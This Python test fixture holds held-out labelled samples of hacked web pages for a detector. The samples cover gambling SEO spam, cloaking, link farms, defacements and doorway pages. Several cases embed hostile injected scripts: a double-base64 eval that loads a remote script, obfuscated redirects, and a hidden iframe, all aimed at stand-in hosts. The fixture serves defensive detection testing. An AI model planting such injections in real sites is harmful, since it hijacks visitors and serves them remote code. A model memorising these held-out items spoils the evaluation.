"""Hacked pages held out: written before the rules were tuned, never looked at while tuning."""

import base64
from collections.abc import Sequence
from dataclasses import replace

from tests.support.labelled.case import Case
from tests.support.labelled.frames import bare, codeigniter, joomla, news_list, paragraphs, wordpress

_HOME = codeigniter("Beranda", news_list(5, 7))
_REVERSED = "https://bola-parlay.example/masuk"[::-1]
_TWICE = base64.b64encode(
    base64.b64encode(
        b"var s=document.createElement('script');s.src='https://stat-js.example/q.js';document.head.appendChild(s)"
    )
).decode()

_CASES = [
    Case(
        "held-hidden-clip",
        "hidden div",
        True,
        joomla(
            "Beranda",
            news_list(),
            foot="<div style='position:fixed;clip-path:inset(100%)'>Depo 10k langsung gacor, akun pro kamboja, bocoran pola slot hari ini</div>",
        ),
    ),
    Case(
        "held-hidden-visibility",
        "hidden div",
        True,
        codeigniter(
            "Beranda",
            news_list()
            + "<ul style='visibility: hidden'><li>Mix parlay</li><li>Sabung ayam online sv388</li><li>Live casino baccarat</li></ul>",
        ),
    ),
    Case(
        "held-hidden-zindex",
        "hidden div",
        True,
        wordpress(
            "Beranda",
            news_list(),
            foot="<div style='z-index:-99;position:absolute'><a href='https://tergacor.example'>TERGACOR</a> <a href='https://anti.example'>anti rungkad</a></div>",
        ),
    ),
    Case(
        "held-hidden-font",
        "hidden div",
        True,
        bare(
            "Kecamatan",
            paragraphs("Pelayanan KTP."),
            foot="<font size=1 color=#FFFFFF>poker online dominoqq bandarq pkv games</font>",
        ),
    ),
    Case(
        "held-hidden-details",
        "hidden div",
        True,
        wordpress(
            "Beranda",
            news_list(),
            foot="<template><h1>Gates of Olympus x1000</h1><p>starlight princess maxwin</p></template>",
        ),
    ),
    Case(
        "held-title-mixed",
        "title swap",
        True,
        codeigniter("Dinas PUPR – Bocoran RTP Slot PG Soft Malam Ini", news_list()),
    ),
    Case("held-title-toto", "title swap", True, joomla("SULTANTOTO: Bandar Toto 4D Hadiah Terbesar", news_list(1))),
    Case("held-title-casino", "title swap", True, wordpress("Best Online Casino Bonus No Deposit 2026", news_list(2))),
    Case("held-title-parlay", "title swap", True, wordpress("Agen Bola Mix Parlay & Sportsbook Resmi", news_list(3))),
    Case(
        "held-keywords",
        "title swap",
        True,
        joomla(
            "Beranda",
            news_list(),
            head="<meta name='keywords' content='togel, slot online, judi bola, sabung ayam, sbobet'>",
        ),
    ),
    Case("held-glyph-greek", "homoglyphs", True, wordpress("ЅΙΟΤ ΜΑΧWΙΝ gαсοr", news_list())),
    Case("held-glyph-circled", "homoglyphs", True, wordpress("ⓢⓛⓞⓣ ⓖⓐⓒⓞⓡ", news_list())),
    Case(
        "held-glyph-accents",
        "homoglyphs",
        True,
        _HOME.replace("</footer>", "</footer><div style='display:none'>ŝłöţ ġàçôŕ måxwïn</div>"),
    ),
    Case("held-glyph-dots", "homoglyphs", True, wordpress("g.a.c.o.r s.l.o.t", news_list())),
    Case("held-glyph-leet", "homoglyphs", True, wordpress("S1ot Gac0r M4xw1n", news_list())),
    Case(
        "held-cloak-title",
        "cloaking",
        True,
        _HOME,
        crawled=_HOME.replace("<title>Beranda", "<title>Slot Deposit Dana 5000 Gacor"),
    ),
    Case(
        "held-cloak-hidden",
        "cloaking",
        True,
        _HOME,
        crawled=_HOME.replace(
            "<footer>", "<footer><p>slot thailand</p><p>rtp live</p><p>togel singapore</p><p>situs judi</p>"
        ),
    ),
    Case(
        "held-cloak-japanese",
        "cloaking",
        True,
        _HOME,
        crawled="<html lang=ja><title>ブランド 激安 通販 スーパーコピー</title><body>"
        + "激安 財布 通販 正規品 送料無料 人気 バッグ 新作 " * 20
        + "</body></html>",
    ),
    Case(
        "held-js-reverse",
        "injected JS",
        True,
        codeigniter(
            "Beranda",
            news_list(),
            foot=f"<script>var u='{_REVERSED}'.split('').reverse().join('');location.replace(u)</script>",
        ),
    ),
    Case(
        "held-js-twice",
        "injected JS",
        True,
        wordpress("Beranda", news_list(), foot=f"<script>eval(atob(atob('{_TWICE}')))</script>"),
    ),
    Case(
        "held-js-concat",
        "injected JS",
        True,
        joomla(
            "Beranda",
            news_list(),
            foot="<script>var a='https://'+'toge'+'l-hk'+'.exam'+'ple';window.location.href=a;</script>",
        ),
    ),
    Case(
        "held-js-iframe",
        "injected JS",
        True,
        wordpress(
            "Beranda",
            news_list(),
            foot="<iframe src='https://hokislot99.example/lp' style='width:0;height:0;border:0'></iframe>",
        ),
    ),
    Case(
        "held-js-inner",
        "injected JS",
        True,
        codeigniter(
            "Beranda",
            news_list(),
            foot="<script>document.getElementById('x').innerHTML=\"<a href='https://q.example'>situs judi bola sbobet</a> slot gacor\";</script>",
        ),
    ),
    Case(
        "held-redirect-var",
        "redirect",
        True,
        wordpress(
            "Beranda",
            news_list(),
            head='<script>var tujuan = "https://linkvip.example/go"; self.location = tujuan;</script>',
        ),
    ),
    Case(
        "held-redirect-mobile",
        "redirect",
        True,
        wordpress(
            "Beranda",
            news_list(),
            head="<script>if(/Android|iPhone/i.test(navigator.userAgent)){window.location.href='https://mobi-cuan.example/app'}</script>",
        ),
    ),
    Case(
        "held-meta-5",
        "meta refresh",
        True,
        joomla("Beranda", news_list(), head='<meta http-equiv="refresh" content="5;URL=http://bandartotoku.example">'),
    ),
    Case(
        "held-farm-sidebar",
        "link farm",
        True,
        wordpress(
            "Beranda",
            news_list()
            + "<div class='widget'><a href='https://ratu-togel.example'>RATUTOGEL</a> <a href='https://asiabet88.example'>ASIABET88</a> <a href='https://panen138.example'>PANEN138</a></div>",
        ),
    ),
    Case(
        "held-farm-hidden",
        "link farm",
        True,
        _HOME.replace(
            "</body>",
            "<div style='margin-left:-10000px'>"
            + "".join(
                f"<a href='https://{n}.example.{z}'>{n}</a>"
                for n, z in (
                    ("alfa", "com"),
                    ("beta", "net"),
                    ("gama", "xyz"),
                    ("delta", "top"),
                    ("zeta", "vip"),
                    ("eta", "club"),
                )
            )
            + "</div></body>",
        ),
    ),
    Case(
        "held-deface-text",
        "full deface",
        True,
        "<html><body style='background:black;color:red'><h1>Stamped by Xai Syndicate</h1><p>Shoutz: Z-BL4CK-H4T, Con7ext. Nothing is secure.</p></body></html>",
    ),
    Case(
        "held-deface-typing",
        "full deface",
        True,
        "<html><head><title>./Hacked by Lulz1337</title></head><body><div id=t></div><script>var m='Hacked by Lulz1337 | we are anonymous';</script></body></html>",
    ),
    Case(
        "held-deface-polite",
        "full deface",
        True,
        joomla(
            "Pesan untuk Admin",
            paragraphs(
                "Maaf admin, website ini telah diretas oleh Sec Team Sriwijaya. Data aman, tolong perbaiki keamanannya."
            ),
        ),
    ),
    Case(
        "held-image-own",
        "image only",
        True,
        "<html><head><title>./nuLL</title></head><body bgcolor='black'><center><img src='https://pomf.example/skull.gif'><br><font color=red>w4s h3r3</font></center></body></html>",
    ),
    Case(
        "held-image-css",
        "image only",
        True,
        "<html><head><title>x</title></head><body style=\"background-image:url('https://cdn.img-host.example/banner.png')\"></body></html>",
    ),
    Case(
        "held-doorway-amp",
        "SEO doorway",
        True,
        wordpress(
            "Beranda",
            news_list(),
            head="<link rel='canonical' href='https://pusat-gacor.example/'><link rel='amphtml' href='https://amp.pusat-gacor.example/'>",
        ),
    ),
    Case(
        "held-doorway-list",
        "SEO doorway",
        True,
        bare(
            "Daftar Isi",
            "".join(
                f"<li><a href='/x/{n}.html'>{t}</a>"
                for n, t in enumerate(
                    ("Slot Pulsa Tri", "Judi Bola Resmi", "Poker Online Android", "Togel Sydney", "Kasino Online")
                )
            ),
        ),
    ),
    Case(
        "held-comment",
        "comment injection",
        True,
        joomla(
            "Forum",
            paragraphs(
                "Terima kasih infonya.",
                "Kunjungi juga <a href='https://pasti-jp.example'>slot server thailand</a>, bonus new member, gampang maxwin!",
            ),
        ),
    ),
    Case(
        "held-path-uploads",
        "deep path",
        True,
        _HOME,
        paths={
            "/wp-content/uploads/": "<html><head><title>MAXWIN: Slot Server Kamboja</title></head><body>login daftar</body></html>"
        },
    ),
    Case(
        "held-path-index",
        "deep path",
        True,
        _HOME,
        paths={
            "/public/": "<title>Index of /public</title><pre><a href='/public/situs-togel/'>situs-togel/</a> <a href='/public/slot-online/'>slot-online/</a> <a href='/public/css/'>css/</a></pre>"
        },
    ),
    Case(
        "held-sitemap-spam",
        "sitemap spam",
        True,
        _HOME,
        paths={
            "/sitemap.xml": "<urlset>"
            + "".join(
                f"<url><loc>https://dinkes.sumselprov.go.id/artikel/{n}-{s}.html</loc></url>"
                for n, s in enumerate(("pelayanan", "gates-of-olympus-pecah", "pragmatic-play-mudah-jp", "profil"))
            )
            + "</urlset>"
        },
    ),
    Case("held-pharma", "SEO doorway", True, wordpress("Buy Viagra Online Cheap Cialis", news_list())),
]

CASES: Sequence[Case] = [replace(case, held_out=True) for case in _CASES]
